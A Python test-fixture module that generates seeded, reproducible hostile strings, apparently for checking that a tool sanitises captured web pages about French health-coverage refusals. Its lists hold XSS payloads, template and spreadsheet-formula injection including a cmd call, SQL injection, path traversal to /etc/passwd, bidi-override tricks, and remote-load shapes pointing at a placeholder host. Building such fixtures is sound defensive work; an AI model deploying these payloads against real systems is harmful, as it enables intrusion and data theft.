"""Hostile texts as a captured page could hold them: composed from small lists, each different, the same each time."""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

_RUNS = ("tell(1)", "top.tell(1)", "parent.postMessage('run','*')", "document.title='STOLEN'", "alert(1)")
_SHAPES = (
    "<script>{run}</script>", "<script src=HOST/x.js></script>", "<img src=x onerror=\"{run}\">",
    "<svg onload=\"{run}\">",
    "<svg><script>{run}</script></svg>", "<iframe srcdoc=\"<script>{run}</script>\"></iframe>",
    "<a href=\"javascript:{run}\">CMU</a>",
    "\"><script>{run}</script>", "'><img src=x onerror={run}>", "</blockquote><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "<style>@import 'HOST/x.css';body{{background:url(HOST/y)}}</style>", "<link rel=stylesheet href=HOST/z.css>",
    "<meta http-equiv=refresh content='0;url=HOST/m'>", "<base href=HOST/>",
    "<form action=HOST/f><button autofocus onfocus=\"{run}\">",
    "<details open ontoggle=\"{run}\">", "<math><mtext><script>{run}</script></mtext></math>",
    "<object data=HOST/o></object>",
    "<video><source onerror=\"{run}\"></video>", "<body onload=\"{run}\">", "<input onfocus=\"{run}\" autofocus>",
    "{{{{ 7*7 }}}}", "{{% raw %}}{run}", "${{{run}}}", "<%= {run} %>", "=cmd|' /C {run}'!A0",
    "+HYPERLINK(\"HOST\")", "@SUM(1)",
    "\u202e{run}\u202c", "\u2066\u2067{run}", "\x00{run}", "\ud83d{run}", "&lt;script&gt;{run}&lt;/script&gt;",
    "%3Cscript%3E{run}",
    "<!--<script>{run}//-->", "<![CDATA[<script>{run}</script>]]>", "<x style=\"width:expression({run})\">",
    "<p style=\"color:red;position:fixed;inset:0\">",
    "javascript:{run}//", "data:text/html,<script>{run}</script>", "' OR 1=1 --", "\"; DROP TABLE verdict; --",
    "../../etc/passwd",
)  # fmt: skip
_AROUND = ("CMU refusée {0}", "{0} patients CMU", "C2S {0} : non", "{0}", "AME\n{0}\nnon")


def hostile_texts(number: int, seed: int = 7) -> Iterator[str]:
    """`number` different texts; « HOST » stands where a server's address goes. Lone surrogates are left out."""
    every = [around.format(shape.format(run=run)) for around, shape, run in itertools.product(_AROUND, _SHAPES, _RUNS)]
    texts = sorted({text.encode("utf-8", "ignore").decode() for text in every})
    random.Random(seed).shuffle(texts)
    yield from (f"{text} nº {i}" for i, text in enumerate(itertools.islice(itertools.cycle(texts), number)))
